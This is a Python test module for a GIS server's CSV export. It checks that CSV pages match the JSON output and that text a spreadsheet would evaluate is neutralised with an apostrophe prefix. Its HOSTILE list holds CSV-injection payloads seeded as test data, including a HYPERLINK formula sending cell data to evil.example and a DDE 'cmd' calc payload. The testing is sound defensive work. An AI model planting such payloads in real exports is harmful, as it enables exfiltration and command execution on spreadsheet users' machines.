"""`f=csv` on every collection, public and restricted (with a token): 200, parseable, the same features and values
as `f=json`, geometry columns chosen for the whole page (features without geometry are rows with empty cells), and
text that a spreadsheet would evaluate (= + - @ TAB CR first) prefixed with `'` while numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
import requests
import shapely
import shapely.geometry
import yaml
from conftest import ROOT, run_cli, running_server
from serve_support import (  # noqa: F401
    PUBLIC,
    RESTRICTED,
    SMALL_HAMLET,
    TRACE_DAY,
    bearer,
    fill_care_f1,
    fill_care_rooms,
    fill_trace,
    fill_welfare,
    filled,
    withdraw_trace_case,
)
from sqlalchemy import text

from gis.serve.csv_formatter import CSVFormatter

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection: what a spreadsheet may evaluate
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\tTab ở đầu",
    "\rCR ở đầu",
    "-2+3",
]
ID_FIELDS = {
    name: res["providers"][0]["id_field"]
    for name, res in yaml.safe_load((ROOT / "pygeoapi-config.yml").read_text(encoding="utf-8"))["resources"].items()
    if res.get("type") == "collection"
}

HOSTILE_SQL = """
INSERT INTO events.facilities (facility_id, kind, name, geom, area_code, commune_code, batch_id, row_hash)
SELECT '0-' || kind || i, kind, name,
       CASE WHEN i <= 2 OR i % 3 = 0 THEN NULL ELSE ST_SetSRID(ST_MakePoint(106.82 + i / 1000.0, 10.97), 4326) END,
       '25996', '25996', 2, 'hostile-' || kind || i
FROM unnest(CAST(:names AS text[])) WITH ORDINALITY AS t(name, i), unnest(ARRAY['testing', 'quarantine']) AS kind;
INSERT INTO events.cases (case_id, person_key, detected_on, detection_setting, cluster_id, setting, area_code,
                          commune_code, located_by, batch_id, row_hash)
SELECT '0-BN' || i, 'k-hostile' || i, '2021-10-18', 'community', name, name, '25996', '25996', 'code', 1, 'hc' || i
FROM unnest(CAST(:names AS text[])) WITH ORDINALITY AS t(name, i);
INSERT INTO ingest.reject (batch_id, file_name, row_number, field, reason, message, record)
SELECT 1, name, i, name, 'unknown_area', name, jsonb_build_object('Tên', name)
FROM unnest(CAST(:names AS text[])) WITH ORDINALITY AS t(name, i);
-- an indicator row of an area no unit holds: the restricted layer gives it no geometry
INSERT INTO stats.indicator
SELECT (jsonb_populate_record(NULL::stats.indicator, to_jsonb(i) || '{"area_code": "00000"}')).*
FROM stats.indicator i WHERE i.area_code = '25996';
"""


def add_hostile_rows(engine) -> None:
    """Hostile text in names, ids, messages and JSON of every collection; some rows without geometry."""
    with engine.begin() as conn:
        conn.execute(text(HOSTILE_SQL), {"names": HOSTILE})
        first = conn.execute(text("SELECT code FROM admin.area ORDER BY code LIMIT :n"), {"n": len(HOSTILE)})
        conn.execute(
            text("UPDATE admin.area SET name = :n WHERE code = :c"),
            [{"c": code, "n": name} for code, name in zip(first.scalars(), HOSTILE)],
        )


def add_proposal(engine) -> None:
    """One lockdown proposal with hostile reasons (the trace seed is too small to reach the rule set's thresholds;
    tests/trace/test_trace_proposals.py holds the rule, this module only the CSV of what the table holds)."""
    with engine.begin() as conn:
        conn.exec_driver_sql(
            "INSERT INTO trace.proposal (proposal_id, ruleset_id, day, area_code, admin_level, population, contacts, "
            "f0_residents, venues, cases, reasons) VALUES (%(id)s, 'vn-pccovid-2022', %(day)s, %(area)s, 4, 1200, 20, "
            "0, ARRAY['VN-PUB'], ARRAY['CA-TRACE-0001'], %(reasons)s::jsonb)",
            {
                "id": f"P-{TRACE_DAY}-{SMALL_HAMLET}-vn-pccovid-2022",
                "day": TRACE_DAY,
                "area": SMALL_HAMLET,
                "reasons": json.dumps([{"vi": HOSTILE[0], "en": HOSTILE[1]}]),
            },
        )


@pytest.fixture(scope="module")
def base(filled, db_url, tmp_path_factory):  # noqa: F811
    add_hostile_rows(filled)
    fill_trace(filled)  # locations of interest (published and withdrawn), exposure venues and contacts
    withdraw_trace_case(filled)
    add_proposal(filled)
    fill_welfare(filled)  # welfare-coverage rows
    fill_care_rooms(filled)  # beds rows
    fill_care_f1(filled)  # f1-orders and transfers rows
    with running_server(db_url, tmp_path_factory.mktemp("serve-var")) as url:
        yield url


@pytest.fixture(scope="module")
def analyst(base, db_url):
    return run_cli("users", "add", "csv-analyst", "--role", "analyst", database_url=db_url).stdout.strip()


def safe(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_START) else value


def parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def assert_cell(cell: str, value) -> None:
    """A CSV cell holds the JSON value: text spreadsheet-safe, numbers unprefixed, JSON as JSON text."""
    if value is None:
        assert cell == ""
    elif isinstance(value, bool):
        assert cell == str(value).lower()
    elif isinstance(value, (int, float)):
        assert not cell.startswith("'") and float(cell) == pytest.approx(value)
    elif isinstance(value, (dict, list)):
        assert json.loads(cell) == value
    else:
        assert cell == safe(value), (cell, value)


def fetch(base: str, cid: str, headers: dict, **params) -> tuple[dict, requests.Response]:
    as_json = requests.get(
        f"{base}/collections/{cid}/items", params={**params, "f": "json"}, headers=headers, timeout=120
    )
    as_csv = requests.get(
        f"{base}/collections/{cid}/items", params={**params, "f": "csv"}, headers=headers, timeout=120
    )
    assert as_json.status_code == 200, as_json.text[:300]
    assert as_csv.status_code == 200, (cid, params, as_csv.status_code, as_csv.text[:300])
    return as_json.json(), as_csv


@pytest.mark.parametrize("cid", PUBLIC + RESTRICTED)
@pytest.mark.parametrize("order", ["+", "-"])
def test_csv_is_the_json_page_spreadsheet_safe(base, analyst, cid, order):
    headers = bearer(analyst) if cid in RESTRICTED else {}
    id_field = ID_FIELDS[cid]
    document, resp = fetch(base, cid, headers, limit=60, sortby=order + id_field)
    assert resp.headers["content-type"].startswith("text/csv")
    assert resp.headers["content-disposition"].startswith("attachment")
    header, *rows = parse(resp.content)
    features = document["features"]
    assert len(rows) == len(features) == document["numberReturned"] > 0
    assert header[0] == id_field and len(set(header)) == len(header)
    geometries = [f["geometry"] for f in features]
    points = all(g["type"] == "Point" for g in geometries if g)
    geometry_columns = ["x", "y"] if points else ["wkt"]
    assert (header[1:3] if points else header[-1:]) == geometry_columns
    assert set(header) - {id_field, *geometry_columns} == set(features[0]["properties"])
    for feature, row in zip(features, rows):
        cells = dict(zip(header, row))
        assert_cell(cells[id_field], feature["id"])
        for name, value in feature["properties"].items():
            assert_cell(cells[name], value)
        geometry = feature["geometry"]
        if geometry is None:
            assert all(cells[c] == "" for c in geometry_columns)
        elif points:
            assert [float(cells["x"]), float(cells["y"])] == pytest.approx(geometry["coordinates"][:2])
        else:
            assert shapely.from_wkt(cells["wkt"]).equals_exact(shapely.geometry.shape(geometry), 1e-9)


@pytest.mark.parametrize("cid", ["facilities-public", "quarantine-facilities", "cases", "ingest-rejects", "indicators"])
def test_first_feature_without_geometry_is_a_row_not_a_500(base, analyst, cid):
    headers = bearer(analyst) if cid in RESTRICTED else {}
    document, resp = fetch(base, cid, headers, limit=20, sortby=ID_FIELDS[cid])
    assert document["features"][0]["geometry"] is None
    header, first, *_ = parse(resp.content)
    assert first[0] == str(document["features"][0]["id"])
    assert [v for c, v in zip(header, first) if c in ("x", "y", "wkt")] in (["", ""], [""])


@pytest.mark.parametrize(
    "cid, column",
    [
        ("facilities-public", "name"),
        ("quarantine-facilities", "name"),
        ("cases", "cluster_id"),
        ("ingest-rejects", "message"),
        ("areas", "name"),
        ("zones", "name"),
    ],
)
def test_hostile_text_is_prefixed_and_kept_literally(base, analyst, cid, column):
    headers = bearer(analyst) if cid in RESTRICTED else {}
    _, resp = fetch(base, cid, headers, limit=200, sortby=ID_FIELDS[cid])
    header, *rows = parse(resp.content)
    found = {row[header.index(column)] for row in rows}
    assert {"'" + h for h in HOSTILE} <= found
    # nothing in the file begins a cell with a formula character, whatever the column
    assert not [c for row in rows for c in row if c.startswith(FORMULA_START) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_skip_geometry_and_empty_pages(base):
    _, resp = fetch(base, "zones", {}, limit=5, skipGeometry="true")
    header, *rows = parse(resp.content)
    assert len(rows) == 5 and all(r[header.index("x")] == "" for r in rows)  # no geometry: empty x, y
    _, empty = fetch(base, "facilities-public", {}, kind="none-such")
    assert parse(empty.content) == [["id", "x", "y"]]


# ---- the formatter on its own: pages pygeoapi could hand it ----


def write(features: list, geom: bool = True, id_field: str = "code") -> list[list[str]]:
    out = CSVFormatter({"name": "CSV", "geom": geom}).write(
        options={"provider_def": {"id_field": id_field}}, data={"type": "FeatureCollection", "features": features}
    )
    return parse(out)


def feature(ident, geometry, **props):
    return {"type": "Feature", "id": ident, "geometry": geometry, "properties": props}


POINT = {"type": "Point", "coordinates": [106.8, 10.9]}
SQUARE = shapely.geometry.mapping(shapely.box(106, 10, 107, 11))


def test_formatter_keeps_types_and_quotes_formulas():
    rows = write(
        [
            feature(
                "=A1",
                None,
                n=-2,
                x=Decimal("-0.5"),
                ok=True,
                day=dt.date(2021, 10, 20),
                at=dt.datetime(2021, 10, 20, 9, 30, tzinfo=dt.UTC),
                reasons=["a", "=b"],
                record={"k": "@v"},
                text="-2",
                none=None,
            )
        ]
    )
    assert rows[0] == ["code", "x", "y", "n", "ok", "day", "at", "reasons", "record", "text", "none"]
    row = dict(zip(rows[0], rows[1]))
    assert row["code"] == "'=A1" and row["n"] == "-2" and row["ok"] == "true" and row["text"] == "'-2"
    assert row["day"] == "2021-10-20" and row["at"] == "2021-10-20T09:30:00+00:00"
    assert json.loads(row["reasons"]) == ["a", "=b"] and json.loads(row["record"]) == {"k": "@v"}
    assert row["x"] == "" and row["none"] == ""  # a property named like a geometry column gives way


@pytest.mark.parametrize(
    "geometries, columns",
    [
        ([None, None], ["x", "y"]),
        ([None, POINT], ["x", "y"]),
        ([POINT, None], ["x", "y"]),
        ([None, SQUARE], ["wkt"]),
        ([POINT, SQUARE], ["wkt"]),
        ([SQUARE, None], ["wkt"]),
    ],
)
def test_formatter_geometry_columns_follow_the_whole_page(geometries, columns):
    rows = write([feature(str(i), g, name=f"n{i}") for i, g in enumerate(geometries)])
    header = rows[0]
    assert (header[1:3] if columns == ["x", "y"] else header[-1:]) == columns
    for g, row in zip(geometries, rows[1:]):
        cells = dict(zip(header, row))
        if g is None:
            assert all(cells[c] == "" for c in columns)
        elif columns == ["wkt"]:
            assert shapely.from_wkt(cells["wkt"]).equals(shapely.geometry.shape(g))
        else:
            assert [float(cells["x"]), float(cells["y"])] == g["coordinates"]


def test_formatter_without_geometry_or_features():
    assert write([], id_field="id") == [["id", "x", "y"]]  # a page without features still says its columns
    assert write([feature("a", POINT, v=1)], geom=False) == [["code", "v"], ["a", "1"]]
